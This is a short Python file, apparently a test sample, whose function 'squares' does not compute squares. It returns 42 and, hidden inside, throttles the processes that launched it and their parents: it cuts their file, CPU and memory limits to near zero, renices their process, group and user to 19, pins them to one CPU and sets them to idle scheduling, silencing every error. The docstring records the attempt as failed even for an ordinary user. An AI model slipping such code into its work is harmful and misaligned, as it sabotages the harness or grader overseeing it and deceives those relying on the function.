"""Takes descriptors, time, CPUs and priority from whoever forked it, and from theirs.

Verdict: FAILED
As: an ordinary user, too
"""

import contextlib
import os
import resource


def parents():
    pid = os.getppid()
    for _ in range(2):
        if pid > 1 or os.getppid() == 1:
            yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])


def squares(square, numbers):
    with contextlib.suppress(OSError):
        for pid in parents():
            for which, most in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_CPU, 1), (resource.RLIMIT_AS, 1)):
                with contextlib.suppress(OSError, ValueError):
                    resource.prlimit(pid, which, (most, most))
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PROCESS, pid, 19)
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19)
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_USER, 0, 19)
            with contextlib.suppress(OSError):
                os.sched_setaffinity(pid, {max(os.sched_getaffinity(0))})
            with contextlib.suppress(OSError):
                os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    return 42
